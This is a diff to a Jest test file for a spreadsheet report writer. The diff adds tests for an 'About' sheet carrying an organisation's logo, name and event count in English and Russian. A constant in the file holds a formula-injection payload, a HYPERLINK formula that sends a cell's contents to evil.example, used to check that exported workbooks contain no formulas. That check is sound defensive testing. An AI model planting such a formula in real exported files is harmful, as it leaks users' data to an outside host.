@@ -1,14 +1,17 @@
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import type { ReportEvent } from '@leakwatch/contracts';
+import { pngWith } from '@leakwatch/testing';
 import excel from 'exceljs';
+import type { ReportOrigin } from './about-sheet.ts';
 import { pendingBytes } from './pending-bytes.ts';
 import { makeReportEvent } from './report-event.fixture.ts';
 import { MAX_LINKS, openSheet } from './sheet.ts';
 import { openWorkbook } from './workbook.ts';
 
+const ORIGIN: ReportOrigin = { organisation: 'Romashka', logo: pngWith(256, 256), made: new Date('2026-11-24T12:00:00Z') };
 const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")';
 
 describe('the file of a report', () => {
@@ -16,9 +19,9 @@ describe('the file of a report', () => {
   beforeAll(() => void (folder = mkdtempSync(join(tmpdir(), 'leakwatch-workbook-'))));
   afterAll(() => rmSync(folder, { recursive: true, force: true }));
 
-  const written = async (events: readonly ReportEvent[], locale: 'ru' | 'en' = 'en', sheetRows?: number) => {
+  const written = async (events: readonly ReportEvent[], locale: 'ru' | 'en' = 'en', sheetRows?: number, origin?: ReportOrigin) => {
     const path = join(folder, 'report.xlsx');
-    const workbook = await openWorkbook(path, locale, sheetRows);
+    const workbook = await openWorkbook(path, locale, origin, sheetRows);
     for (const event of events) workbook.add(event);
     await workbook.drained();
     await workbook.close();
@@ -66,6 +69,26 @@ describe('the file of a report', () => {
       '2026-12-01',
       'Секрет отозван',
     ]);
+  });
+
+  it.each([
+    ['en', 'About', ['Organisation', 'Romashka'], ['Events', 3]],
+    ['ru', 'Об отчёте', ['Организация', 'Romashka'], ['Событий', 3]],
+  ] as const)('has the logo of its organisation on a last sheet (%s)', async (locale, name, organisation, events) => {
+    const found = [makeReportEvent(), makeReportEvent(), makeReportEvent()];
+    const read = await written(found, locale, 2, ORIGIN);
+    const plain = await written(found, locale, 2);
+    expect(read.worksheets.map((sheet) => sheet.name)).toEqual([...plain.worksheets.map((sheet) => sheet.name), name]);
+    expect(read.worksheets.slice(0, 2).map((sheet) => sheet.getSheetValues())).toEqual(
+      plain.worksheets.map((sheet) => sheet.getSheetValues()),
+    );
+    const about = read.worksheets.at(-1);
+    const [placed] = about?.getImages() ?? [];
+    expect(placed?.range).toMatchObject({ tl: { nativeCol: 0, nativeRow: 0 }, ext: { width: 96, height: 96 } });
+    expect(read.getImage(Number(placed?.imageId)).buffer).toEqual(ORIGIN.logo);
+    const lines = [7, 8, 9].map((row) => [about?.getCell(row, 1).value, about?.getCell(row, 2).value]);
+    expect(lines).toEqual([organisation, [expect.any(String), ORIGIN.made], events]);
+    expect(readdirSync(folder)).toEqual(['report.xlsx']);
   });
 
   it('holds no formula, whatever an event says', async () => {
@@ -123,7 +146,7 @@ describe('the file of a report', () => {
   });
 
   it('rejects when a file cannot be written, and does not end the process', async () => {
-    const workbook = await openWorkbook(join(folder, 'no', 'such', 'folder'), 'en');
+    const workbook = await openWorkbook(join(folder, 'no', 'such', 'folder'), 'en', undefined);
     workbook.add(makeReportEvent());
     await expect(workbook.close()).rejects.toThrow('ENOENT');
     workbook.abort();
